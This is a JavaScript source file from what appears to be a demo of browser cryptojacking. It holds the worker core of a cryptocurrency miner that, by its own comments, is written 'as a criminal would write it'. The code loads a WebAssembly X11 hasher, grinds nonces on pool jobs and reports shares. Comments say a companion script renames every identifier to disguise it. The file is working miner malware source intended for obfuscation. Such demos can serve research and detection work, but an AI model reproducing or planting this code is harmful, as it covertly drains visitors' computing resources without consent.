// The demo's miner, as a criminal would write it: runs in a worker, hashes X11 over an 80-byte header until told a new
// job, and answers with nonces. It talks only by messages, so that a page or a worker can own the pool's socket.
// Kept to plain names and strings: disguise.ts renames every one of them.
/* oxlint-disable no-unused-vars -- build.ts joins this text with by-message.js or by-socket.js, which call it */
let api;
let view;
let input;
let output;
let nonce = 0;
let limit = 0;
let ticket = null;

async function prepare(bytes) {
  const memory = new WebAssembly.Memory({ initial: 256, maximum: 256 });
  const heap = new Uint8Array(memory.buffer);
  const copy = (to, from, size) => void heap.copyWithin(to, from, from + size);
  const env = { a: () => 0, b: copy, c: () => heap.length, memory };
  const loaded = await WebAssembly.instantiate(bytes, { env });
  api = loaded.instance.exports;
  view = new DataView(memory.buffer);
  view.setUint32(29024, 5272096, true); // where the C heap begins; the library's own glue writes the same two numbers
  input = api.d(80);
  output = api.d(32);
}

function accept(next) {
  const first = ticket === null;
  ticket = next.ticket;
  limit = next.limit;
  for (let i = 0; i < 76; i++) view.setUint8(input + i, parseInt(next.header.slice(2 * i, 2 * i + 2), 16));
  if (first) grind();
}

function grind() {
  const batch = 1024;
  for (let i = 0; i < batch; i++) {
    nonce = (nonce + 1) >>> 0;
    view.setUint32(input + 76, nonce, true);
    api.f(input, output, 80);
    if (view.getUint32(output + 28, true) < limit) answer({ ticket, nonce });
  }
  answer({ hashes: batch });
  setTimeout(grind, 0);
}
